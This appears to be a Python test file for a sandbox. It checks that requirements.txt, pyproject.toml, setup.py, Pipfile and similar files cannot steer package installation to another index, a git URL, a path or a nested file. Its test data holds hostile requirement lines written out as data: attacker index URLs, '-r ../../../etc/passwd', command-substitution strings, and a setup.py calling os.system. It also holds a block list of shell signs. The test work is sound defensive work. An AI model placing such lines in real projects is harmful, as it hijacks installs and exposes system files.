"""Where packages come from is the host's business: no file of a repository can choose it."""

from __future__ import annotations

from sandbox.escape.case import Place, cases_of, must
from sandbox.escape.verifying import store_of
from sandbox.escape.wheelhouse import Wheelhouse
from sandbox.requirements import infer, prepare
from sandbox.store import installed_versions
from sandbox.tree import Tree

DECLARED, case = cases_of("declared")

LINES = {
    "index_url": ("--index-url http://198.51.100.1/simple", "-i http://198.51.100.1/simple"),
    "extra_index_url": ("--extra-index-url http://198.51.100.1/simple", "--extra-index-url=file:///tmp/evil"),
    "find_links": ("--find-links http://198.51.100.1/", "-f /tmp/evil", "--trusted-host 198.51.100.1", "--pre"),
    "editable_git": ("-e git+https://198.51.100.1/evil.git#egg=evil", "-e ."),
    "git_url": ("evil @ git+https://198.51.100.1/evil.git", "git+ssh://git@198.51.100.1/evil.git"),
    "file_url": ("file:///tmp/evil-1.0-py3-none-any.whl", "evil @ file:///tmp/evil-1.0-py3-none-any.whl"),
    "parent_path": ("../evil", "../../evil-1.0.tar.gz", "/tmp/evil", "./evil.whl"),  # noqa: S108 - hostile text
    "nested_files": ("-r ../../../etc/passwd", "-c /etc/passwd", "-r http://198.51.100.1/more.txt"),
    "shell_words": ("six; os_name == 'posix' and $(touch /tmp/evil)", "`touch /tmp/evil`"),
}
"""Case -> lines of a requirements.txt that would choose another place."""


def _harmless(files: dict[str, str]) -> None:
    """See that nothing of what these files say reaches an installer but plain names and versions."""
    found = infer(Tree({path: text.encode() for path, text in files.items()}))
    for need in found.requirements:
        text = f"{need.distribution}{need.specifier}{''.join(need.extras)}"
        bad = [sign for sign in ("/", "\\", ":", "@", "--", "\n", "\r", "`", "$", " -", "evil") if sign in text]
        must(not bad, f"{text!r} would be installed")
    said = " ".join(item.name for item in found.refused)
    must("@198" not in said.replace("***@", ""), f"a login is shown: {said}")


def _add(name: str, lines: tuple[str, ...]) -> None:
    def act(_place: Place) -> None:
        for line in lines:
            _harmless({"main.py": "print(1)\n", "requirements.txt": f"numpy\n{line}\n"})
            found = infer(Tree({"main.py": b"import numpy\n", "requirements.txt": f"numpy\n{line}\n".encode()}))
            must([need.distribution for need in found.requirements] == ["numpy"], f"{line!r}: {found.requirements}")

    act.__name__ = f"declared_{name}"
    act.__doc__ = f"`{lines[0]}` in a requirements file is not obeyed, nor are its relatives."
    case()(act)


for _name, _lines in LINES.items():
    _add(_name, _lines)


@case()
def declared_elsewhere(_place: Place) -> None:
    """Indexes, URLs and paths in pyproject.toml, setup.cfg, setup.py, Pipfile and environment.yml are not obeyed."""
    project = (
        '[project]\nname = "x"\nversion = "1"\ndependencies = ["numpy", "evil @ https://198.51.100.1/evil.whl"]\n'
        '[[tool.uv.index]]\nurl = "http://198.51.100.1/simple"\n[tool.uv.sources]\nnumpy = { path = "../evil" }\n'
        '[tool.poetry.dependencies]\nevil = { git = "https://198.51.100.1/evil.git" }\n'
        '[build-system]\nrequires = ["evil"]\nbuild-backend = "evil"\nbackend-path = ["."]\n'
    )
    files = {
        "main.py": "import numpy\n",
        "pyproject.toml": project,
        "setup.cfg": "[options]\ninstall_requires =\n  numpy\n  evil @ file:///evil\n[easy_install]\nindex_url = http://x\n",
        "setup.py": "import os\nos.system('evil')\nimport setuptools\nsetuptools.setup(install_requires=['../e'])\n",
        "Pipfile": '[[source]]\nurl = "http://198.51.100.1"\nname = "e"\n[packages]\nnumpy = {path = "../evil"}\n',
        "environment.yml": "channels: [http://x]\ndependencies:\n - pip:\n   - --index-url http://x\n   - ../evil\n",
        "pip.conf": "[global]\nindex-url = http://198.51.100.1/simple\n",
        "uv.toml": 'index-url = "http://198.51.100.1/simple"\n',
    }
    _harmless(files)


@case()
def declared_lines_reach_no_installer(place: Place) -> None:
    """A repository with all of these installs from the host's index alone, and only what that one has."""
    packages = Wheelhouse(place.folder())
    wheel = packages.wheel("numpy", "2.0")
    lines = "\n".join(line for lines in LINES.values() for line in lines)
    found = infer(Tree({"main.py": b"import numpy\n", "requirements.txt": f"numpy\n{lines}\n".encode()}))
    store = store_of(place)
    with store.session() as session:
        session.keep_wheel(wheel.name, wheel.read_bytes())
    prepared = prepare(store, found.requirements)
    must(prepared.environment is not None, f"nothing was installed: {prepared.failure}")
    lock = prepared.environment.lock if prepared.environment else ""
    must(installed_versions(lock) == {"numpy": "2.0"}, f"installed: {installed_versions(lock)}")
    must("://" not in lock, "an address is in the lock")
